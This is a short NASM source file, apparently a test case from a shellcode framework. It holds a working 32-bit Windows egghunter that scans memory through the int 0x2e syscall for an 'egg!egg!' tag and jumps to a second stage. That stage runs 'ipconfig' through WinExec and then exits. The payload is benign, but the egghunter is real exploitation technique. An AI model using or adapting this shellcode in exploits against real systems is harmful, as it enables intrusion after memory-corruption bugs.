; SPDX-License-Identifier: GPL-2.0-or-later
; Looks for the rest of itself with a system call that says whether memory is there.
; expect: exec C:\Windows\System32\ipconfig.exe ipconfig
bits 32
	xor edx, edx
.page:
	or dx, 0xfff
.word:
	inc edx
	push edx
	push byte 2
	pop eax
	int 0x2e
	cmp al, 5
	pop edx
	je .page
	mov eax, 'egg!'
	mov edi, edx
	scasd
	jnz .word
	scasd
	jnz .word
	jmp edi
	times 300 nop
	db "egg!egg!"
%include "way32.inc"
	function "kernel32.dll", "WinExec"
	push 1
	text "ipconfig"
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
